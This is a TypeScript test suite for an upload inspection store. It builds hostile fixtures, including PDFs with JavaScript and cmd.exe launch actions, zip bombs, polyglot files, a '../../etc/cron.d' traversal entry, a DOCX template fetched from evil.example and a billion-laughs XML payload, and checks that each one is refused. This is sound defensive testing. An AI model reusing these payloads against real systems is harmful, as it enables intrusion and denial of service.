import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { type TestContext, test } from 'node:test';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { sampleDocx, sampleJpeg, samplePdf, samplePng, sampleZip } from '../../tests/world/papers.ts';
import { pieces } from '../../tests/world/store-contract.ts';
import { openFolderStore } from './folder.ts';
import { fileTypes } from './types.ts';

async function asked(t: TestContext) {
  const folder = mkdtempSync(join(tmpdir(), 'motcua-inspect-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const store = await openFolderStore(folder);
  return {
    answer: async (bytes: Uint8Array) => {
      const kept = await store.put(pieces(bytes), { limit: 50_000_000, accept: fileTypes });
      return kept.ok ? kept.value.type : kept.code;
    },
    left: () => readdirSync(join(folder, 'incoming')),
  };
}

/** A PDF with these objects besides its own. */
const pdfWith = (...bodies: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    samplePdf().subarray(0, -6),
    ...bodies.flatMap((body, at) => [
      Buffer.from(`${at + 90} 0 obj\n`),
      Buffer.from(body as Buffer),
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from('%%EOF\n'),
  ]);

const packed = (objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length 99 >>\nstream\n`),
    deflateSync(objects),
    Buffer.from('\nendstream'),
  ]);

/** A ZIP archive with packed entries; a test may tell other things than are so. */
function zipOf(files: Record<string, Buffer>, over: { flags?: number; sameBody?: boolean } = {}): Buffer {
  const [bodies, list]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const [name, bytes] of Object.entries(files)) {
    const [label, data] = [Buffer.from(name), deflateRawSync(bytes)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(over.flags ?? 0, 2);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(label.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(over.sameBody ? 0 : at, 10);
    if (!over.sameBody || at === 0)
      bodies.push(Buffer.from('PK\x03\x04\x14\0', 'latin1'), common.subarray(2), label, data);
    const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\0\x14\0', 'latin1'), common.subarray(2), place, label]);
    list.push(entry);
    if (!over.sameBody || at === 0) at += 30 + label.length + data.length;
  }
  const listed = Buffer.concat(list);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(list.length, 8);
  end.writeUInt16LE(list.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...bodies, listed, end]);
}

const xml = (body: string, head = '<?xml version="1.0" encoding="UTF-8"?>') => Buffer.from(`${head}\n${body}`);

test('honest files of every accepted type are taken', async (t) => {
  const { answer } = await asked(t);
  const made = await PDFDocument.create();
  made.addPage().drawText('Don de nghi');
  made.attach(Buffer.from('<hoadon/>'), 'hoa-don.xml', { mimeType: 'application/xml' });
  const files: [Uint8Array, string][] = [
    [samplePdf(), 'pdf'],
    [samplePdf('The word JavaScript and the word Launch'), 'pdf'],
    [await made.save(), 'pdf'],
    [await made.save({ useObjectStreams: false }), 'pdf'],
    [Buffer.concat([samplePdf(), Buffer.from('\r\n\0\0')]), 'pdf'],
    [sampleJpeg(), 'jpeg'],
    [samplePng(), 'png'],
    [sampleDocx(), 'docx'],
    [sampleDocx({ 'word/embeddings/Bang.xlsx': sampleZip({ a: 'b' }).toString('latin1') }), 'docx'],
    [zipOf({ 'bản vẽ/mặt bằng.pdf': samplePdf(), 'ảnh.jpg': sampleJpeg() }), 'zip'],
    [xml('<hồSơ><số>12</số></hồSơ>'), 'xml'],
    [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), xml('<a/>')]), 'xml'],
  ];
  for (const [at, [bytes, type]] of files.entries()) assert.equal(await answer(bytes), type, `${at}`);
});

test('a PDF that runs something is refused, however its names are written and wherever they are packed', async (t) => {
  const { answer, left } = await asked(t);
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const running = [
    pdfWith(script),
    pdfWith('<< /S /J#61va#53cript /JS (x) >>'),
    pdfWith('<< /S /Launch /F (cmd.exe) >>'),
    pdfWith('<< /S /Rendition /JS (x) >>'),
    pdfWith(packed(`12 0 ${script}`)),
    pdfWith(packed(`12 0 ${script}`, '/N 1 /First 4 /Filter /FlateDecode')),
    pdfWith(packed(`12 0 ${' '.repeat(200_000)}${script}`)),
    pdfWith(`<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 3 >>\nstream\nabc\nendstream`),
    pdfWith('<< /Type /Filespec /F (don.pdf.exe) /EF << /F 9 0 R >> >>'),
    pdfWith(`<< /Type /Filespec /UF <FEFF${Buffer.from('don.exe', 'utf16le').swap16().toString('hex')}> >>`),
    // Across the edge of what is read at once.
    pdfWith(`% ${'x'.repeat(262_144 - samplePdf().length - 20)}`, script),
  ];
  for (const [at, bytes] of running.entries()) assert.equal(await answer(bytes), 'file-active', `${at}`);
  assert.equal(await answer(pdfWith('<< /Filter /Standard >>', '<< /Encrypt 90 0 R >>')), 'file-locked');
  assert.deepEqual(left(), []);
});

test('a file that is two files is refused', async (t) => {
  const { answer } = await asked(t);
  const zip = zipOf({ 'a.html': Buffer.from('<script>') });
  const mixed: Buffer[] = [
    ...[samplePdf(), sampleJpeg(), samplePng(), xml('<a/>')].map((one) => Buffer.concat([one, zip])),
    Buffer.concat([samplePdf(), Buffer.from('<script>alert(1)</script>')]),
    Buffer.concat([samplePdf(), Buffer.alloc(9_000, 'x')]),
    Buffer.concat([sampleJpeg().subarray(0, 20), samplePdf(), sampleJpeg().subarray(20)]),
    Buffer.concat([samplePng(), Buffer.from('<?php')]),
    Buffer.concat([zip, Buffer.from('more')]),
    Buffer.concat([sampleDocx(), Buffer.from('%PDF-1.7')]),
  ];
  for (const [at, bytes] of mixed.entries())
    assert.match(await answer(bytes), /^file-(?:mixed|type-refused)$/, `${at}`);
  for (const bytes of mixed.slice(0, 5)) assert.equal(await answer(bytes), 'file-mixed');
  assert.equal(await answer(Buffer.concat([zip, Buffer.from('more')])), 'file-mixed');
});

test('archives that grow, hide, lock or repeat are refused by what they are, not by what they tell', async (t) => {
  const { answer, left } = await asked(t);
  const zeros = Buffer.alloc(30_000_000);
  const many = Object.fromEntries(Array.from({ length: 2_001 }, (_, at) => [`${at}.txt`, Buffer.from('x')]));
  const lying = zipOf({ 'a.txt': zeros });
  // Its list says it unpacks to one byte.
  lying.writeUInt32LE(1, 22);
  lying.writeUInt32LE(1, lying.length - 22 - 46 - 5 + 24);
  const cases: [Buffer, string][] = [
    [zipOf({ 'a.txt': zeros }), 'file-expands'],
    [lying, 'file-expands'],
    [zipOf({ 'a.txt': zeros, 'b.txt': zeros }, { sameBody: true }), 'file-expands'],
    [zipOf(many), 'file-expands'],
    [sampleDocxPacked(zeros), 'file-expands'],
    [zipOf({ 'in.zip': zipOf({ 'a.txt': Buffer.from('x') }) }), 'archive-nested'],
    [zipOf({ 'in.txt': Buffer.from('Rar!\x1a\x07\0more') }), 'archive-nested'],
    [zipOf({ 'a.pdf': samplePdf() }, { flags: 1 }), 'file-locked'],
    [zipOf({ 'setup.exe': Buffer.from('x') }), 'archive-contents'],
    [zipOf({ 'don.pdf': Buffer.from('MZ\x90\0 program') }), 'archive-contents'],
    [zipOf({ '../../etc/cron.d/x': Buffer.from('x') }), 'archive-contents'],
    [sampleDocx({ 'word/embeddings/oleObject1.bin': 'x' }), 'file-active'],
    [sampleDocx({ 'word/activeX/activeX1.xml': 'x' }), 'file-active'],
    [
      sampleDocx({
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
      }),
      'file-active',
    ],
  ];
  for (const [at, [bytes, code]] of cases.entries()) assert.equal(await answer(bytes), code, `${at}`);
  assert.deepEqual(left(), []);
});

function sampleDocxPacked(bomb: Buffer): Buffer {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return zipOf({
    '[Content_Types].xml': Buffer.from(`<Types><Override ContentType="${main}"/></Types>`),
    'word/document.xml': bomb,
  });
}

test('XML that declares entities, runs scripts or is not plain UTF-8 is refused', async (t) => {
  const { answer } = await asked(t);
  const laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>';
  assert.equal(await answer(xml(laughs)), 'xml-not-plain');
  assert.equal(await answer(xml(`<a>${' '.repeat(262_120)}</a>${laughs}`)), 'xml-not-plain');
  assert.equal(await answer(Buffer.concat([xml('<a>'), Buffer.from([0xc3, 0x28])])), 'xml-not-plain');
  assert.equal(await answer(xml('<a/>', '<?xml version="1.0" encoding="UTF-7"?>')), 'xml-not-plain');
  assert.equal(await answer(xml('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')), 'file-active');
  assert.equal(await answer(xml('<a/>', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?>')), 'file-active');
});

test('two gigabytes, bombs and nothing at all are refused in bounded memory', async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'motcua-large-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const putting = resolve(import.meta.dirname, '../../tests/world/putting.ts');
  const child = spawn(process.execPath, [putting, 'hostile', folder], { stdio: ['ignore', 'pipe', 'inherit'] });
  const said: Buffer[] = await child.stdout.toArray();
  const { codes, grew, left } = JSON.parse(Buffer.concat(said).toString());
  assert.deepEqual(codes, ['upload-too-much', 'file-too-big', 'file-expands', 'file-expands', 'file-empty']);
  assert.equal(left, 0);
  t.diagnostic(`memory grew by ${grew} MB`);
  // Sender and receiver in one process; 2.5 GB sent, 500 MB unpacked.
  assert.ok(grew < 150, `memory grew by ${grew} MB`);
});
